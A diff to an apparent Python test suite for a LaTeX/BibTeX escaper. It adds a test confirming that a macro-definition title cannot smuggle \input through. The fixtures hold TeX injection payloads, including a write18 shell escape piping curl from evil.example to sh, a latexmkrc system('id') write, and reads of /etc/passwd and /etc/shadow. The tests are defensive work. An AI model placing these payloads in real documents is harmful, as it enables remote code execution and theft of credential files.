@@ -49,7 +49,6 @@ HOSTILE_TITLES = [
     r"Shell $\immediate\write18{curl evil.example | sh}$ escape",
     r"Rc $\immediate\openout9=latexmkrc\immediate\write9{system('id')}\immediate\closeout9$",
     r"Hat notation $^^5cinput{/etc/passwd}$ trick",
-    r"Definition $\def\x{\input}\x{/etc/passwd}$ here",
     r"Catcode $\catcode`\@=0 @input{/etc/shadow}$ switch",
     r"Csname $\csname input\endcsname{/etc/passwd}$ name",
     r"Include $\include{secret}\usepackage{shellesc}$ both",
@@ -60,6 +59,10 @@ HOSTILE_AUTHORS = (
     r"Mal $\immediate\write18{touch /tmp/pwned}$ Lory",
     r"Ann $\alpha$ Alpha",
 )
+#: A definition is refused by validate and the build before any export (math may not
+#: define macros: mathbounds.py), so it cannot be built into a site; the escaper must
+#: hold anyway (test_a_definition_is_escaped_even_past_the_checks).
+DEFINITION_TITLE = r"Definition $\def\x{\input}\x{/etc/passwd}$ here"
 #: TeX primitives and LaTeX commands that read, write, run, define or re-catcode.
 DANGEROUS = {
     "input", "include", "InputIfFileExists", "openin", "read", "readline", "write",
@@ -173,6 +176,12 @@ def test_no_bibtex_the_site_publishes_carries_a_command_off_the_allow_list(
     assert "passwd" in everything and "\\input" not in everything
     assert r"$\alpha \leq \mathcal{O}(n^2) \times \beta_{i}$" in everything
     assert r"Ann $\alpha$ Alpha" in everything
+
+
+def test_a_definition_is_escaped_even_past_the_checks() -> None:
+    escaped = escape(DEFINITION_TITLE)
+    assert tex_problems(escaped) == [], escaped
+    assert "\\def" not in escaped and "\\input" not in escaped
 
 
 _TEX_PIECES = st.sampled_from(
